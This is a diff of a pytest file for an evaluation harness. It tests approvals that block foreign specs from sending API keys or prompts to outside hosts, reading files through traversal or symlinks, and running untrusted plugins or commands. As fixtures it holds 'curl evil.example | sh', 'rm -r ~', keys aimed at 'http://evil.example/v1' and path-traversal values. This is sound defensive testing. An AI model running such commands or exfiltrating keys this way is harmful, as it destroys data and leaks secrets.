@@ -20,6 +20,7 @@ from harness.approvals import NeededApproval, NotApprovedError
 from harness.cli import main
 from harness.config.project import builtin, find
 from harness.engines.mock import Mock
+from harness.errors import DataError
 from harness.evaluation import rescored
 from harness.extensions.judges.finished import judge
 from harness.extensions.trust.record import approved, store
@@ -389,8 +390,8 @@ def test_plugins_of_a_parent_elsewhere_need_approval(stranger: Stranger, capsys:
 
 
 ENGINES: dict[str, tuple[dict[str, Any], str]] = {
-    "a program": ({"use": "agent", "command": ["sh", "-c", "true"]}, "runs sh as it is"),
-    "a function": ({"use": "agent", "call": "subprocess:getoutput"}, "runs subprocess:getoutput as it is"),
+    "a program": ({"use": "agent", "command": ["sh", "-c", "true"]}, r"sh -c true, in no sandbox"),
+    "a function": ({"use": "agent", "call": "subprocess:getoutput"}, "subprocess:getoutput, in no sandbox"),
     "code of a model": ({"use": "vllm", "pretrained": "a/b", "trust_remote_code": True}, "comes with the model a/b"),
     "classes by name": ({"use": "vllm", "pretrained": "a/b", "engine_args": {"worker_cls": "x.Y"}}, r"worker_cls"),
 }
@@ -440,12 +441,17 @@ def needed_by(file: Path, project: Any = None) -> list[str]:
 
 
 ADDRESS = "http://evil.example/v1"
+TO = f"prompts to {ADDRESS}"
 PAIRS: list[tuple[dict[str, Any], list[str]]] = [
-    ({"base_url": ADDRESS}, [f"OPENAI_API_KEY to {ADDRESS}"]),
-    ({"base_url": ADDRESS, "api_key_env": "AWS_SECRET"}, [f"AWS_SECRET to {ADDRESS}"]),
-    ({"base_url": [ADDRESS, "http://b/v1"]}, [f"OPENAI_API_KEY to {ADDRESS}", "OPENAI_API_KEY to http://b/v1"]),
+    ({"base_url": ADDRESS}, [TO, f"OPENAI_API_KEY to {ADDRESS}"]),
+    ({"base_url": ADDRESS, "api_key_env": ""}, [TO]),
+    ({"base_url": ADDRESS, "api_key_env": "AWS_SECRET"}, [TO, f"AWS_SECRET to {ADDRESS}"]),
+    (
+        {"base_url": [ADDRESS, "http://b/v1"]},
+        [TO, f"OPENAI_API_KEY to {ADDRESS}", "prompts to http://b/v1", "OPENAI_API_KEY to http://b/v1"],
+    ),
     ({"api_key_env": "AWS_SECRET"}, ["AWS_SECRET to the provider's own address"]),
-    ({"base_url": "http://me:you@evil.example/v1?x=1"}, [f"OPENAI_API_KEY to {ADDRESS}"]),
+    ({"base_url": "http://me:you@evil.example/v1?x=1"}, [TO, f"OPENAI_API_KEY to {ADDRESS}"]),
     ({}, []),
 ]
 
@@ -485,10 +491,12 @@ def test_a_key_is_sent_where_a_person_sends_it(
         return capsys.readouterr().err
 
     unheard = "no usable server at"
-    assert "not approved to be sent:\n    AWS_SECRET to http://127.0.0.1:9/v1 (models: m)" in says()
+    lacking = f"not approved to be sent:\n    prompts to {closed} (models: m)"
+    assert f"{lacking}\n    AWS_SECRET to {closed} (models: m)" in says()
     given = ["--set", f"models.m.base_url={closed}", "--set", "models.m.api_key_env=AWS_SECRET"]
     assert unheard in says(*given) and "not approved" in says(*given[:2])
-    assert unheard in says("--set", "models.m.api_key_env=NOT_SET")
+    unset = says("--set", "models.m.api_key_env=NOT_SET")  # no key goes there, and prompts would
+    assert lacking in unset and "NOT_SET" not in unset
     assert unheard in says("--allow_code_execution")
     assert unheard in says(
         "--set", "agents.default=model", "--model", "openai", "--model_args", "model=x,base_url=" + closed
@@ -515,6 +523,160 @@ def test_a_judge_of_a_finished_run_chooses_no_key(tmp_path: Path, monkeypatch: p
         with pytest.raises(NotApprovedError, match="OPENAI_API_KEY to http://evil"):
             judge(run.folder, None, {"name": "n", "model": models, "prompt": "judges/helpfulness"}, project=project)
     assert rescored(run.folder, project).scores and Run.load(run.folder, project).scores
+
+
+# ------------------------------------------------------------------------------------------ data
+
+
+SECRET = '{"q": "my diary?", "a": "secret"}\n'
+READERS: dict[str, dict[str, Any]] = {
+    "a file": {"data_files": "HOME/diary.jsonl"},
+    "a pattern": {"data_files": "HOME/*.jsonl"},
+    "splits": {"data_files": {"test": ["rows.jsonl", "HOME/diary.jsonl"]}},
+    "a folder": {"data_dir": "HOME"},
+    "a data set": {"dataset_path": "HOME"},
+    "a detour": {"data_files": "STRANGER/../private/diary.jsonl"},
+    "a link": {"data_files": "STRANGER/link.jsonl"},
+}
+
+
+@pytest.mark.parametrize("name", READERS)
+def test_a_foreign_spec_reads_below_its_own_folder_only(
+    stranger: Stranger, tmp_path: Path, name: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    private = tmp_path / "private"
+    private.mkdir()
+    (private / "diary.jsonl").write_text(SECRET)
+    (stranger.folder / "link.jsonl").symlink_to(private / "diary.jsonl")
+    own_rows = stranger.folder / "mine.jsonl"
+    own_rows.write_text(SECRET)
+    given = json.loads(json.dumps(READERS[name]).replace("HOME", str(private)).replace("STRANGER", str(stranger.folder)))
+    body = {"name": "x", "task": {"use": "dataset_qa", "doc_to_text": "q", "doc_to_target": "a"}, "protocol": "single"}
+    file = stranger.folder / "s.yaml"
+    swept = {**body, "matrix": {"what": [given]}, "task": {**body["task"], **{key: f"${{what.{key}}}" for key in given}}}
+    swept["matrix"]["what"][0] = {"name": "w", **given}
+    play = ["--model", "mock", "--quiet", "--output_path", str(tmp_path / "out")]
+    for spec in ({**body, "task": {**body["task"], **given}}, swept):
+        file.write_text(yaml.safe_dump(spec))
+        (Path.cwd() / "own.yaml").write_text(yaml.safe_dump({"extends": str(file)}))
+        for path in (str(file), "own.yaml"):
+            assert main(["eval", "--spec", path, *play]) == 2 and not (tmp_path / "out").exists()
+            assert f"not approved to be read:\n    {private}" in capsys.readouterr().err
+            assert main(["validate", path]) == 2 and "not approved to be read" in capsys.readouterr().err
+    file.write_text(yaml.safe_dump({**body, "task": {**body["task"], "data_files": str(own_rows)}}))
+    assert main(["eval", "--spec", str(file), *play]) == 0, capsys.readouterr().err
+    shutil.rmtree(tmp_path / "out")
+    file.write_text(yaml.safe_dump({**body, "task": {**body["task"], **given}}))
+    assert trust(str(file)) == 0
+    if name not in ("splits",):
+        assert main(["eval", "--spec", str(file), *play]) == 0, capsys.readouterr().err
+
+
+def test_a_foreign_spec_extends_only_what_is_below_its_folder_or_has_a_name(
+    stranger: Stranger, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    (tmp_path / "private.yaml").write_text("extends: agentsnet_quick\nname: secret\ndescription: my diary\n")
+    (stranger.folder / "base.yaml").write_text("extends: agentsnet_quick\nname: base\n")
+    file = stranger.folder / "s.yaml"
+    for base, code in (("../private.yaml", 2), (str(tmp_path / "private.yaml"), 2), ("base.yaml", 0)):
+        file.write_text(yaml.safe_dump({"extends": base, "name": "x"}))
+        assert main(["validate", str(file)]) == code, capsys.readouterr()
+        assert ("not approved to be read" in capsys.readouterr().err) == (code == 2)
+    file.write_text("extends: ../private.yaml\nname: x\n")
+    assert trust(str(file)) == 0 and main(["validate", str(file)]) == 0
+
+
+# ------------------------------------------------------------------------------------------ runs that travel
+
+
+@pytest.mark.parametrize("place", ["downloads/run", "home/results/run", "home/results/pack/inner", "downloads/run/sub"])
+def test_a_run_is_no_project_of_ones_own(
+    stranger: Stranger, tmp_path: Path, place: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Whoever stands in it and looks at it runs none of its plugins."""
+    folder = tmp_path / place
+    policies = folder / "registry" / "policies"
+    policies.mkdir(parents=True)
+    plugin = "from harness.api import Policy, plugin\n\n@plugin\nclass Own(Policy):\n"
+    (policies / "own.py").write_text(stranger.code("own") + plugin + "    def choose(self, turn, rng):\n        pass\n")
+    run = folder.parent if place.endswith("sub") else folder
+    harness.evaluate("agentsnet_quick", limit=1, output_path=run, project=builtin())
+    (folder / "harness.yaml").write_text("parents: [harness_builtin]\n")
+    spec = yaml.safe_load((run / "spec.yaml").read_text())
+    (run / "spec.yaml").write_text(yaml.safe_dump({**spec, "baseline": "own"}))
+    if place.endswith("inner"):
+        for name in ("run.json", "journal.jsonl"):
+            (folder / name).rename(folder.parent / name)
+    os.chdir(folder)
+    for words in (["report", "."], ["score", "."], ["validate", "spec.yaml"], ["list", "policies"], ["schema"],
+                  ["eval", "--spec", "spec.yaml"], ["trust", "."], ["show", "--spec", "spec.yaml", "--case", "0"]):  # fmt: skip
+        main(words)
+        assert stranger.did == [], words
+    capsys.readouterr()
+
+
+def test_no_run_is_written_over_a_project(tmp_path: Path) -> None:
+    with pytest.raises(DataError, match="a project"):
+        harness.evaluate("agentsnet_quick", limit=1, output_path=Path.cwd())
+
+
+# ------------------------------------------------------------------------------------------ what is shown and what runs
+
+
+def test_the_question_shows_the_whole_command_and_leads_with_it(
+    stranger: Stranger, capsys: pytest.CaptureFixture[str]
+) -> None:
+    label = "harmless (built in)\nwould run: nothing"
+    command = ["bash", "-c", "curl evil.example | sh\necho ok", "x" * 400]
+    model = {"use": "agent", "command": command, "label": label, "args": {"mode": "wipe"}}
+    file = stranger.folder / "s.yaml"
+    file.write_text(yaml.safe_dump({"extends": "agentsnet_quick", "name": "x", "models": {"m": model}}))
+    main(["trust", str(file), "--forget"])
+    lines = capsys.readouterr().out.splitlines()
+    assert lines[0] == "would run:" and lines[1].startswith("  bash -c 'curl evil.example | sh")
+    assert "x" * 400 in lines[1] and '{"mode": "wipe"}' in lines[1]
+    assert lines[1].index("harmless") > lines[1].index("in no sandbox") and 'called "harmless (built in)' in lines[1]
+    assert sum(line.startswith("would run") for line in lines) == 1
+
+
+@pytest.mark.parametrize(
+    "command", [["bash", "FILE"], ["bash", "-c", ". FILE; true"], ["env", "X=FILE"], ["python", "FOLDER"], ["FILE"]]
+)
+def test_a_script_elsewhere_is_part_of_what_is_approved(
+    stranger: Stranger, command: list[str], capsys: pytest.CaptureFixture[str]
+) -> None:
+    script = stranger.folder / "tool" / "agent.sh"
+    script.parent.mkdir()
+    script.write_text("cat\n")
+    words = [word.replace("FILE", str(script)).replace("FOLDER", str(script.parent)) for word in command]
+    body = {"extends": "agentsnet_quick", "name": "x", "agents": {"default": "m"}}
+    file = stranger.folder / "s.yaml"
+    file.write_text(yaml.safe_dump({**body, "models": {"m": {"use": "agent", "command": words}}}))
+    assert main(["validate", str(file)]) == 2 and str(script) in capsys.readouterr().err
+    assert trust(str(file)) == 0 and main(["validate", str(file)]) == 0
+    script.write_text("rm -r ~\n")
+    assert main(["validate", str(file)]) == 2 and "not approved to run" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize("link", ["registry/policies/own.py", "registry/policies", "registry/policies/_helper.py", "registry"])
+def test_a_link_among_ones_own_plugins_counts_as_what_it_leads_to(
+    stranger: Stranger, link: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    theirs, own = stranger.folder / "registry" / "policies", Path.cwd() / "registry" / "policies"
+    for folder in (theirs, own):
+        folder.mkdir(parents=True)
+        (folder / "_helper.py").write_text(stranger.code("helper") if folder == theirs else "")
+        plugin = "from harness.api import Policy, plugin\nfrom . import _helper\n\n@plugin\nclass Own(Policy):\n"
+        body = '    """A policy."""\n    def choose(self, turn, rng):\n        return None\n'
+        (folder / "own.py").write_text(plugin + body)
+    there = Path.cwd() / link
+    shutil.rmtree(there) if there.is_dir() else there.unlink()
+    there.symlink_to(stranger.folder / link)
+    (Path.cwd() / "x.yaml").write_text("{extends: agentsnet_quick, name: x, baseline: own}")
+    assert main(["validate", "x.yaml"]) == 2 and stranger.did == []
+    assert "not approved to run" in capsys.readouterr().err
+    assert trust(".") == 0 and stranger.did == []
+    assert main(["validate", "x.yaml"]) == 0, capsys.readouterr()
 
 
 # ------------------------------------------------------------------------------------------ the rule
